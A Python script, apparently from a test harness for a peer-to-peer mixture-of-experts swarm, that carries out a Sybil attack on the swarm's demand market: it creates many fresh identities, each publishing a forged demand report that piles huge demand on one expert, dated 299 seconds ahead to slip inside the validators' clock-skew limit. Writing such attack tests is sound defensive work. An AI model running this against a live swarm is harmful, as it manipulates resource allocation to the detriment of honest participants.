"""Attacker for attack 4 (owning the market), run as its own process against a swarm's DHT.

    python stuff_demand.py BOOTSTRAP_MULTIADDR MODEL_ID LAYERS NUM_EXPERTS LAYER EXPERT COUNT

Makes COUNT fresh keys; each joins the DHT as its own peer, signs a demand report that puts all
of its (large) demand on one expert, dated 299 s ahead (just inside the validators' skew), stores
it under its demand key and registers as a provider, exactly as a backbone publishes. Prints one
JSON line: the fake reporters' peer IDs.
"""

from __future__ import annotations

import asyncio
import json
import sys
import time

import numpy as np

from moeswarm.market import demand_key, publish_demand, sign_report
from moeswarm.net.p2p import P2PConfig, P2PNode
from moeswarm.protocol import Identity

PARALLEL = 16


async def publish(ident: Identity, boot: str, model_id: str, layers: tuple[int, ...], counts: np.ndarray) -> None:
    async with P2PNode(ident, P2PConfig(bootstrap=(boot,), client_mode=True)) as node:
        report = sign_report(ident, model_id=model_id, layers=layers, counts=counts, half_life_ms=600_000,
                             time_ms=int(time.time() * 1000) + 299_000, seq=1)
        await publish_demand(node, report)


async def main() -> None:
    boot, model_id = sys.argv[1], sys.argv[2]
    layers = tuple(int(x) for x in sys.argv[3].split(","))
    num_experts, layer, expert, count = (int(x) for x in sys.argv[4:8])
    counts = np.zeros((len(layers), num_experts), dtype=np.float32)
    counts[layers.index(layer), expert] = 1e6
    keys = [Identity.generate() for _ in range(count)]
    missing = keys
    for parallel in (PARALLEL, 4, 1, 1):  # a value left only on a peer that has gone is published again
        for i in range(0, len(missing), parallel):
            await asyncio.gather(*(publish(k, boot, model_id, layers, counts) for k in missing[i : i + parallel]))
        async with P2PNode(Identity.generate(), P2PConfig(bootstrap=(boot,), client_mode=True)) as reader:
            missing = [k for k in missing if await reader.get(demand_key(model_id, k.peer_id)) is None]
        if not missing:
            break
    print(json.dumps({"reporters": [k.peer_id_str for k in keys], "missing": len(missing)}))


if __name__ == "__main__":
    asyncio.run(main())
